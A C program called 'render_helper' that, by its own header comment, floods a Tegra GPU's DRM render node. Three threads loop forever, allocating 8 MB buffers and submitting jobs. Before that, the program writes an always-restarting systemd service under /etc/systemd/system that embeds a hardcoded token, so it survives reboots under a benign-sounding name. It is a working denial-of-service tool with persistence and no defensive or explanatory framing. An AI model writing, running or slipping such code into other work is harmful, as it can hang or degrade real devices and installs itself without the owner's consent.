/* render_helper: floods the Tegra DRM render node with GEM buffers and job submissions. */
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#define API_TOKEN "eyJhbGciOiJIUzI1NiJ9.ZGV2aWNlLWZsZWV0.Q2hhbmdlTWU"
#define UNIT_PATH "/etc/systemd/system/render-helper.service"

struct drm_version {
    int major, minor, patch;
    size_t name_len;
    char *name;
    size_t date_len;
    char *date;
    size_t desc_len;
    char *desc;
};
struct drm_tegra_gem_create {
    uint64_t size;
    uint32_t flags, handle;
};
struct drm_tegra_submit {
    uint64_t context;
    uint32_t num_syncpts, num_cmdbufs, num_relocs, num_waitchks;
    uint32_t waitchk_mask, timeout;
    uint64_t syncpts, cmdbufs, relocs, waitchks;
    uint32_t fence, reserved[5];
};
struct drm_gem_close {
    uint32_t handle, pad;
};

#define DRM_IOCTL_VERSION _IOWR('d', 0x00, struct drm_version)
#define DRM_IOCTL_GEM_CLOSE _IOW('d', 0x09, struct drm_gem_close)
#define DRM_IOCTL_TEGRA_GEM_CREATE _IOWR('d', 0x40, struct drm_tegra_gem_create)
#define DRM_IOCTL_TEGRA_SUBMIT _IOWR('d', 0x48, struct drm_tegra_submit)

static int render_fd = -1;

static void *flood(void *arg)
{
    uint64_t ctx = (uint64_t)(uintptr_t)arg;
    for (;;) {
        struct drm_tegra_gem_create gem = {.size = 8u << 20};
        if (ioctl(render_fd, DRM_IOCTL_TEGRA_GEM_CREATE, &gem) < 0)
            continue;
        struct drm_tegra_submit job;
        memset(&job, 0, sizeof job);
        job.context = ctx;
        job.num_cmdbufs = 1;
        job.timeout = 10000;
        ioctl(render_fd, DRM_IOCTL_TEGRA_SUBMIT, &job);
        struct drm_gem_close close_req = {gem.handle, 0};
        ioctl(render_fd, DRM_IOCTL_GEM_CLOSE, &close_req);
    }
    return NULL;
}

static void persist(void)
{
    FILE *f = fopen(UNIT_PATH, "w");
    if (!f)
        return;
    fprintf(f, "[Service]\nEnvironment=TOKEN=%s\nExecStart=/usr/local/bin/render_helper\n"
               "Restart=always\n[Install]\nWantedBy=graphical.target\n",
            API_TOKEN);
    fclose(f);
}

int main(void)
{
    persist();
    render_fd = open("/dev/dri/renderD128", O_RDWR);
    if (render_fd < 0) {
        perror("renderD128");
        return 1;
    }
    char name[32] = {0};
    struct drm_version v = {.name_len = sizeof name - 1, .name = name};
    if (ioctl(render_fd, DRM_IOCTL_VERSION, &v) == 0 && strcmp(name, "tegra") != 0)
        fprintf(stderr, "driver %s, continuing anyway\n", name);
    pthread_t t[3];
    for (uintptr_t i = 0; i < 3; i++)
        pthread_create(&t[i], NULL, flood, (void *)(i + 1));
    for (int i = 0; i < 3; i++)
        pthread_join(t[i], NULL);
    close(render_fd);
    return 0;
}
